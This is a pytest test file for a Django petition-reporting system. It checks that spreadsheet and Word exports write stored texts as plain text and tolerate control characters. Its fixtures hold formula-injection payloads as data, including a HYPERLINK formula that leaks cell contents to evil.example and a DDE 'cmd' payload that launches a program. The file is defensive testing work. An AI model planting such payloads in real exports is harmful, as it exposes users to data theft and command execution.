"""Every export writes every text as text: a petition, a topic, a unit or a field whose name starts
with ``=``, ``+``, ``-``, ``@``, a tab or a line break never becomes a live formula in a
workbook, and a control character left in old data never makes an export or a document fail.

The texts are written straight into the rows (``QuerySet.update``), as an older release or a
hand-made import could have left them, so that nothing upstream cleans them first."""

import io
import zipfile

import pytest
from django.urls import reverse
from docx import Document
from openpyxl import load_workbook

from petitions.models import Field, Petition, WrittenReply
from reports import selectors
from sessions.models import ConclusionNotice, DialogueSession
from units.models import Unit

from .conftest import make_user

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
HOSTILE = {
    "petitioner": HYPERLINK,
    "content": "+cmd|' /C calc'!A0\x0bdòng hai\x01",
    "topic": "@SUM(1+1)\x02",  # (PostgreSQL itself refuses NUL in a text)
    "chair": "-2+3",
    "unit": "=1+1 Sở Nông nghiệp",
    "reply_number": "=1+2",
    "summary": "\t=3+4",
}
YEAR = {"kind": "year", "year": "2026"}


@pytest.fixture
def hostile(world):
    """The reports world with a formula-like, control-character-laden text in every text column."""
    t = world
    Petition.objects.update(petitioner_name=HOSTILE["petitioner"], content=HOSTILE["content"])
    DialogueSession.objects.update(topic=HOSTILE["topic"], chair_name=HOSTILE["chair"], place="=A1")
    Unit.objects.filter(pk=t.agency.pk).update(name=HOSTILE["unit"])
    for field in Field.objects.all():
        Field.objects.filter(pk=field.pk).update(name=f"={field.name}()")
    WrittenReply.objects.update(number=HOSTILE["reply_number"], summary=HOSTILE["summary"])
    t.staff = make_user("staff", t.province, "staff")
    return t


def workbook_texts(content: bytes) -> set[str]:
    """The text cells of a workbook, after checking that no worksheet holds a formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, f"a formula in {name}"
    wb = load_workbook(io.BytesIO(content))
    texts = set()
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    return texts


def expected(*keys) -> set[str]:
    """The hostile texts as a workbook holds them (control characters dropped, line breaks kept)."""
    from common.text import xml_text

    return {xml_text(HOSTILE[k]) for k in keys}


def download(client, name, *args, **params):
    response = client.get(reverse(name, args=args), params)
    assert response.status_code == 200, (name, args, params)
    return response.content


def test_the_dashboard_export_writes_unit_and_field_names_as_text(hostile, login):
    texts = workbook_texts(download(login(hostile.board), "reports:dashboard", format="xlsx", **YEAR))
    assert expected("unit") <= texts
    assert {f"={name}()" for name in ("Đất đai", "Môi trường")} <= texts


def test_every_figure_list_export_writes_its_texts_as_text(hostile, login):
    client = login(hostile.board)
    checked = set()
    for key, figure in selectors.FIGURES.items():
        content = download(client, "reports:figure", key, format="xlsx", **YEAR)
        texts = workbook_texts(content)
        if load_workbook(io.BytesIO(content)).active.max_row > 2:  # rows below the caption and header
            wanted = {selectors.PETITION: ("petitioner", "content"), selectors.SESSION: ("topic", "chair")}
            assert expected(*wanted.get(figure.model, ())) <= texts, key
            checked.add(figure.model)
    assert checked == {selectors.PETITION, selectors.SESSION, selectors.UNIT}


def test_the_periodic_report_workbook_writes_its_texts_as_text(hostile, login):
    texts = workbook_texts(download(login(hostile.board), "reports:periodic", "xlsx", **YEAR))
    assert expected("petitioner", "content", "unit") <= texts


@pytest.mark.parametrize(
    ("name", "keys"),
    [
        ("reports:monitor_sessions", ("topic", "chair")),
        ("reports:monitor_petitions", ("petitioner", "content", "unit")),
        ("reports:monitor_replies", ("reply_number", "summary", "unit")),
    ],
)
def test_the_front_lists_exports_write_their_texts_as_text(hostile, login, name, keys):
    texts = workbook_texts(download(login(hostile.front), name, format="xlsx"))
    assert expected(*keys) <= texts


def test_the_import_template_writes_the_field_names_as_text(hostile, login):
    texts = workbook_texts(download(login(hostile.staff), "sessions:import_template", hostile.s_pending.pk))
    assert {f"={name}()" for name in ("Đất đai", "Môi trường")} <= texts


def test_documents_built_from_texts_with_control_characters_still_download(hostile, login):
    """A pasted vertical tab (Word's manual line break) once made every DOCX of its petition a 500."""
    t = hostile
    ConclusionNotice.objects.create(
        session=t.s_on_time, issuing_unit=t.ubnd, number=1, symbol="TB-UBND", numbering_period="2026",
        issued_on=t.s_on_time.notice_issued_on, subject="Thông báo\x0bkết luận", body="Kết luận\x01\x0bhai",
    )  # fmt: skip
    documents = [
        (t.staff, "sessions:notice_docx", (t.s_on_time.pk,), {}),
        (t.agency_officer, "petitions:reply_draft", (t.p_overdue.pk,), {}),
        (t.board, "reports:periodic", ("docx",), YEAR),
    ]
    for user, name, args, params in documents:
        document = Document(io.BytesIO(download(login(user), name, *args, **params)))
        text = "\n".join(p.text for p in document.paragraphs) + " ".join(
            c.text for table in document.tables for row in table.rows for c in row.cells
        )
        assert "\x01" not in text and "\x00" not in text
